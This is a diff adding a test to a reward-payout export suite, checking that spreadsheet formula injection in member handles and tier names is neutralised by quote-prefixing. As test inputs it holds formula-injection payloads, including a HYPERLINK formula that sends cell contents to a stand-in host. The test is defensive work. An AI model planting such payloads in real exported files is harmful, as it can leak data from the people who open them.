@@ -85,6 +85,21 @@ describe('reward payout exports', () => {
     expect(lines.reduce((s, l) => s + BigInt(l[5]!), 0n) + report.rewards.undistributed).toBe(report.rewards.pool);
   });
 
+  it('GIVEN handles and a tier a spreadsheet would run as formulas THEN each is prefixed with a quote and quoted, and reads back as the text plus that quote', () => {
+    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"pay")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
+    const members = report.rewards.amounts.slice(0, formulas.length).map((a) => a.member);
+    const hostile = { ...data, members: data.members.map((m) => (members.includes(m.id) ? { ...m, handle: formulas[members.indexOf(m.id)]! } : m)) };
+    const config = { ...hostile.round.config, tiers: { ...hostile.round.config.tiers, levels: hostile.round.config.tiers.levels.map((l) => (l.name === 'B' ? { ...l, name: '=1+2' } : l)) } };
+    const hostileReport = computeReport({ ...hostile, round: { ...hostile.round, config } });
+    const csv = payoutCsv(payoutRows(hostile, hostileReport), hostileReport.token);
+    const parsed = parseCsv(csv);
+    for (const [i, formula] of formulas.entries()) expect(parsed.find((r) => r[0] === members[i])![1]).toBe(`'${formula}`);
+    expect(csv).toContain('"\'=HYPERLINK(""http://x.example/?""&A1,""pay"")"');
+    expect(parsed.filter((r) => r[3] === "'=1+2").length).toBeGreaterThan(0);
+    // no field of any row starts with a formula character once read back
+    for (const row of parsed) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('GIVEN a token contract THEN the Safe batch has one transfer per recipient, valid, summing to the pool', () => {
     const batch = safeBatch(rows, report, token, new Date('2025-02-01T00:00:00Z'));
     const parsed = batchSchema.parse(JSON.parse(JSON.stringify(batch)));
